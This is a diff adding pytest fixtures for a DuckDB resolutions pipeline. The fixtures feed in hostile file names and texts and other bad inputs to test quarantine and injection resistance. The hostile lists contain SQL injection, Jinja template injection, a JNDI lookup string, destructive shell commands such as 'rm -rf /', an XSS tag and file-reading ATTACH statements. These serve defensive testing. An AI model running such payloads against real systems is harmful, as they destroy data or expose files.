@@ -96,3 +96,172 @@ def published_warehouse(tmp_path_factory, session_raw_dir) -> Path:
 def published_run_stdout(published_warehouse) -> str:
     """What ``resolutions run`` printed while building ``published_warehouse``."""
     return (published_warehouse.parent / "run.stdout").read_text()
+
+
+# ---------------------------------------------------------------------------------------------
+# Hostile and bad inputs, shared by test_quarantine.py, test_hostile_input.py and test_pipeline_run.py
+
+HOSTILE_NAMES = [
+    "it's \"quoted\" 12.txt",
+    "semi;colon; drop table raw.raw_documents;--.txt",
+    "x'); delete from raw.raw_clauses where ('1'='1.md",
+    "dots..in..name.txt",
+    "with spaces  and\ttab.txt",
+    "резолюция 77.txt",
+    "決議 第5号.md",
+    "{{ run_query('drop schema raw cascade') }}.txt",
+]
+HOSTILE_TEXTS = [
+    "Robert'); DROP TABLE raw.raw_documents; --",
+    "{{ run_query('drop schema main cascade') }} and {% for x in range(10**9) %}{% endfor %}",
+    "${jndi:ldap://example.invalid/a} $(rm -rf /) `touch /tmp/pwned` ; COPY main.fct_clauses TO '/tmp/x.csv'",
+    "```sh\nrm -rf ~\n```\n<script>alert(1)</script> ATTACH '/etc/passwd' AS p;",
+]
+
+
+def hostile_document(i: int, extra: str) -> str:
+    """A small but genuine resolution whose clauses carry ``extra`` (SQL, Jinja, shell...)."""
+    return (
+        f"RESOLUTION {900 + i}\n\nON TESTING HOSTILE INPUT NUMBER {i}\n\nThe Assembly,\n\n"
+        f"1. Recalling its previous resolutions on the matter, including the text \"{extra}\";\n\n"
+        f"2. Noting that {extra} is only text;\n\n"
+        f"3. Urges member governments:\n\n"
+        f"a. to spend at least 2% of GDP on defence by 2030;\n\n"
+        f"b. to treat \"{extra}\" as data and nothing else;\n\n"
+        f"4. Calls on parliaments to remain vigilant, number {i};\n"
+    )
+
+
+def write_bad_inputs(raw: Path, keep_for_duplicates: Path) -> dict[str, str]:
+    """Write one file per bad-input class into ``raw``; returns ``file name -> expected reason``."""
+    expected = {}
+    (raw / "empty.txt").write_bytes(b"")
+    expected["empty.txt"] = "empty"
+    (raw / "whitespace.md").write_bytes(b"  \n\t\n")
+    expected["whitespace.md"] = "empty"
+    (raw / "scan.txt").write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 8)
+    expected["scan.txt"] = "binary"
+    (raw / "image.html").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
+    expected["image.html"] = "binary"
+    (raw / "nul-bytes.txt").write_bytes(b"1. Urges\x00\x00\x00 governments\x00 to act;\x00" * 50)
+    expected["nul-bytes.txt"] = "binary"
+    (raw / "broken-utf16.txt").write_bytes(("1. Urges governments to act;\n" * 20).encode("utf-16-le") + b"\x00\xd8A\x00")
+    expected["broken-utf16.txt"] = "undecodable"
+    (raw / "letter.txt").write_text("Dear colleagues,\nthank you for the lovely dinner.\nBest regards\n")
+    expected["letter.txt"] = "no_clauses"
+    (raw / "repeated-markers.txt").write_bytes(b"RESOLUTION 7\n\nThe Assembly,\n\n" + b"1. " * 20000 + b"\n")
+    expected["repeated-markers.txt"] = "no_clauses"
+    with open(raw / "huge-200mb.txt", "wb") as fh:  # sparse: 200 MB on paper, nothing on disk
+        fh.truncate(200 * 1024 * 1024)
+    expected["huge-200mb.txt"] = "too_large"
+    shutil.copy(keep_for_duplicates, raw / f"copy of {keep_for_duplicates.name}")
+    expected[f"copy of {keep_for_duplicates.name}"] = "duplicate_content"
+    (raw / f"{keep_for_duplicates.stem}.htm").write_text(
+        "<h1>RESOLUTION 1</h1><p>The Assembly,</p><p>1. Urges governments to act;</p>", encoding="utf-8")
+    expected[f"{keep_for_duplicates.stem}.htm"] = "duplicate_document"
+    (raw / "minutes.docx").write_bytes(b"PK\x03\x04 not really a docx")
+    expected["minutes.docx"] = "unsupported_type"
+    os.symlink("/etc/hostname", raw / "outside-link.txt")
+    expected["outside-link.txt"] = "outside_raw_dir"
+    os.symlink(raw / "no-such-file.txt", raw / "dangling-link.txt")
+    expected["dangling-link.txt"] = "not_a_file"
+    (raw / ".hidden-draft.txt").write_text("1. Urges nobody;\n")  # hidden: ignored, never loaded
+    return expected
+
+
+def write_hostile_documents(raw: Path) -> dict[str, int]:
+    """Genuine documents under hostile names and with hostile text; returns ``name -> index``."""
+    out = {}
+    for i, name in enumerate(HOSTILE_NAMES):
+        (raw / name).write_text(hostile_document(i, HOSTILE_TEXTS[i % len(HOSTILE_TEXTS)]), encoding="utf-8")
+        out[name] = i
+    # a name that is not valid UTF-8 (bytes on disk), stored with backslash escapes
+    bad = os.fsencode(raw) + b"/latin1-r\xe9solution.txt"
+    with open(bad, "w", encoding="utf-8") as fh:
+        fh.write(hostile_document(len(HOSTILE_NAMES), "plain text"))
+    out["latin1-r\\xe9solution.txt"] = len(HOSTILE_NAMES)
+    return out
+
+
+# ---------------------------------------------------------------------------------------------
+# Runs on private copies of the session warehouse (each one real `resolutions run`)
+
+READER = r"""
+import sys, duckdb
+con = duckdb.connect(sys.argv[1], read_only=(sys.argv[2] == "ro"))
+def snap():
+    v = con.execute("select max(version) from meta.publish_log").fetchone()[0]
+    n = con.execute("select count(*) from main.fct_clauses").fetchone()[0]
+    return f"{v} {n}"
+print("BEFORE", snap(), flush=True)
+sys.stdin.readline()
+print("AFTER", snap(), flush=True)
+"""
+
+
+class Reader:
+    """A separate process holding a DuckDB connection to the published file until told to finish."""
+
+    def __init__(self, db: Path, mode: str):
+        self.proc = subprocess.Popen([sys.executable, "-c", READER, str(db), mode], stdin=subprocess.PIPE,
+                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        self.before = self.proc.stdout.readline().split()
+        if not self.before:
+            raise AssertionError(f"reader did not start: {self.proc.stderr.read()}")
+
+    def finish(self) -> list[str]:
+        self.proc.stdin.write("go\n")
+        self.proc.stdin.flush()
+        after = self.proc.stdout.readline().split()
+        self.proc.wait(timeout=30)
+        return after
+
+
+def db_sha256(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+@pytest.fixture(scope="session")
+def rerun_with_readers(published_warehouse, session_raw_dir, tmp_path_factory):
+    """Run again on unchanged input while one process holds the published file read-only and another
+    read-write (a BI tool opened without -readonly)."""
+    base = tmp_path_factory.mktemp("rerun")
+    wh = copy_warehouse(published_warehouse, base / "warehouse")
+    db = wh / "warehouse.duckdb"
+    before = table_checksums(db)
+    readers = {"ro": Reader(db, "ro")}
+    proc = run_cli("run", "--raw-dir", str(session_raw_dir), "--warehouse-dir", str(wh), timeout=900)
+    readers["ro"].after = readers["ro"].finish()
+    rw = Reader(db, "rw")  # the new file, held read-write while yet another run publishes
+    proc2 = run_cli("run", "--raw-dir", str(session_raw_dir), "--warehouse-dir", str(wh), timeout=900)
+    rw.after = rw.finish()
+    readers["rw"] = rw
+    return {"dir": wh, "before": before, "after": table_checksums(db), "proc": proc, "proc2": proc2,
+            "readers": readers}
+
+
+@pytest.fixture(scope="session")
+def messy_run(published_warehouse, tmp_path_factory):
+    """From the session warehouse: one sample changed, one removed, every bad-input class added and
+    genuine documents under hostile names with SQL/Jinja/shell text. One real run."""
+    base = tmp_path_factory.mktemp("messy")
+    wh = copy_warehouse(published_warehouse, base / "warehouse")
+    raw = copy_raw(base / "raw")
+    changed, removed = raw / RAW_SAMPLES[0].name, raw / RAW_SAMPLES[-1].name
+    text = changed.read_text(encoding="utf-8")
+    changed.write_text(text[: text.rstrip().rfind("\n\n")] + "\n", encoding="utf-8")  # drop the last clause
+    removed.unlink()
+    expected_bad = write_bad_inputs(raw, changed)
+    hostile = write_hostile_documents(raw)
+    listing = sorted(os.listdir(os.fsencode(raw)))
+    before_sha = db_sha256(wh / "warehouse.duckdb")
+    proc = run_cli("run", "--raw-dir", str(raw), "--warehouse-dir", str(wh), timeout=900)
+    return {"dir": wh, "raw": raw, "proc": proc, "changed": changed.name, "removed": removed.name,
+            "expected_bad": expected_bad, "hostile": hostile, "listing_before": listing,
+            "published_sha_before": before_sha, "session_tables": set(table_checksums(published_warehouse
+                                                                                     / "warehouse.duckdb"))}
+
+
+def query(db: Path, sql: str, params=()):
+    with duckdb.connect(str(db), read_only=True) as con:
+        return con.execute(sql, list(params)).fetchall()
